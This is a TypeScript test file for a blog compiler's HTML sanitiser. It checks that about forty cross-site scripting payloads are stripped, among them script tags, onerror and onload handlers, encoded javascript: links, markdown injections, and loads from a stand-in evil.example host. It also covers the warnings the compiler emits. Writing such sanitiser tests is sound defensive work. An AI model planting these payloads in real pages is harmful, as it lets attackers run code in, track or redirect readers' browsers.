// What an author, or someone an author copied from, may not bring to a reader's device.
import { expect, test } from 'vitest';
import { compile, post, said } from './make.ts';
import { postFile } from './read.ts';

const htmlOf = async (body: string): Promise<string> =>
  postFile(await compile({ 'a.md': post('title: A', body) }), 'a').html;

/** Elements and attributes as a browser would see them: text and attribute values are left out. */
const tagsOf = (html: string): string =>
  Array.from(html.matchAll(/<[^>"]*(?:"[^"]*"[^>"]*)*>/g), ([tag]) => tag.replace(/"[^"]*"/g, '""')).join('');

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="\'><script>alert(1)</script>">x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x" onerror="alert(1)](gone.png "y\\" onload=\\"alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```js title="<img src=x onerror=alert(1)>"\n</code><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '## <img src=x onerror=alert(1)> {#"><script>}',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
])('%j brings nothing that runs or loads', async (body) => {
  const html = await htmlOf(body);
  const tags = tagsOf(html);
  expect(tags).not.toMatch(
    /<\/?(script|style|iframe|object|embed|form|input|svg|math|link|base|meta|video|template)\b/i,
  );
  expect(tags).not.toMatch(/\son\w+|\sstyle=|\ssrcdoc|\sformaction/i);
  expect(html).not.toMatch(/(?:href|src)="(?!https?:|mailto:|#\/|c\/v1\/)/i);
  expect(html).not.toMatch(/src="https?:/i);
  expect(html).not.toContain('\0');
});

test('what is taken out is a warning with its place', async () => {
  const body = 'Text.\n\nA <blink>word</blink> and <b onclick="x()">one</b>.\n\n<script>\nalert(1)\n</script>';
  const compiled = await compile({ 'a.md': post('title: A', body) });
  expect(said(compiled, 'warning')).toEqual([
    'a.md:6:3 <blink> is taken out | if it is meant as text, write `<blink>`',
    'a.md:6:30 onclick= is taken out of <b> | it may not stand in a post',
    'a.md:8:1 <script> is taken out | posts hold text, no programs and no styles',
  ]);
});

test('an embedded page is kept as a link to it', async () => {
  const html = await htmlOf('<iframe src="https://videos.example/embed/1" title="A talk"></iframe>');
  expect(html).toBe('<p><a href="https://videos.example/embed/1">A talk</a></p>');
});

test('an element that is never closed does not swallow the page', async () => {
  const html = await htmlOf('<div><b>\n\nText\n\n## Heading');
  expect(html.match(/<div>/g)?.length).toBe(html.match(/<\/div>/g)?.length);
});
